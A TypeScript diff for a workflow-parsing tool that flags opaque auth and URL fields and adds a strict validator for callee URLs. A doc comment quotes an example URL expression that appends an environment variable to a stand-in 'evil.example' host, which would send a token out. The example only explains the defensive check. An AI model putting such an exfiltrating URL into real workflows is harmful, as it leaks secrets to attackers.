@@ -19,6 +19,10 @@ export interface WorkflowHttpStep {
   readonly call: string;
   /** `args.auth.type` as written (`OIDC`, `OAuth2`), or undefined. */
   readonly auth?: string;
+  /** `args.auth` is there but not a map (an expression, `${...}`): what it sends cannot be read. */
+  readonly opaqueAuth: boolean;
+  /** `args.url` is there but not a string. */
+  readonly opaqueUrl: boolean;
   /** `args.url` as written, when it is a string. */
   readonly url?: string;
   /** `args.auth.audience` as written, when it is a string. */
@@ -58,12 +62,16 @@ export function workflowHttpSteps(document: unknown): WorkflowHttpStep[] {
 function stepOf(step: Record<string, unknown>, at: string): WorkflowHttpStep {
   const args = recordOf(step.args);
   const auth = recordOf(args.auth);
+  const opaqueAuth = args.auth !== undefined && !isRecord(args.auth);
+  const opaqueUrl = args.url !== undefined && typeof args.url !== "string";
   const url = typeof args.url === "string" ? args.url : undefined;
   const audience = typeof auth.audience === "string" ? auth.audience : undefined;
   return {
     at,
     call: String(step.call),
     ...(typeof auth.type === "string" ? { auth: auth.type } : {}),
+    opaqueAuth,
+    opaqueUrl,
     ...(url === undefined ? {} : { url }),
     ...(audience === undefined ? {} : { audience }),
     urlVariables: variablesIn(url),
@@ -74,6 +82,24 @@ function stepOf(step: Record<string, unknown>, at: string): WorkflowHttpStep {
 function variablesIn(text: string | undefined): string[] {
   return text === undefined ? [] : [...new Set([...text.matchAll(GET_ENV)].map((m) => m[1]))];
 }
+
+function isRecord(value: unknown): boolean {
+  return value !== null && typeof value === "object" && !Array.isArray(value);
+}
+
+/**
+ * Whether `url` is one callee's URL, or that URL and a literal path below it: `${sys.get_env("CALLGRAPH_URL_X")}` or
+ * `${sys.get_env("CALLGRAPH_URL_X") + "/path"}`, nothing before the URL. Anything else could send the token elsewhere
+ * (`${"https://evil.example/?u=" + sys.get_env(...)}` reads the variable too).
+ */
+export function calleeUrlShape(url: string | undefined): { variable: string; path: string } | undefined {
+  const match = URL_SHAPE.exec(url ?? "");
+  if (!match) return undefined;
+  return { variable: match[1], path: match[2] ?? "" };
+}
+
+const URL_SHAPE =
+  /^\$\{\s*sys\.get_env\(\s*["'](CALLGRAPH_URL_[A-Z0-9_]+)["']\s*\)\s*(?:\+\s*"(\/[A-Za-z0-9._~!$&'()*+,;=:@/-]*)"\s*)?\}$/;
 
 function recordOf(value: unknown): Record<string, unknown> {
   return value !== null && typeof value === "object" && !Array.isArray(value)
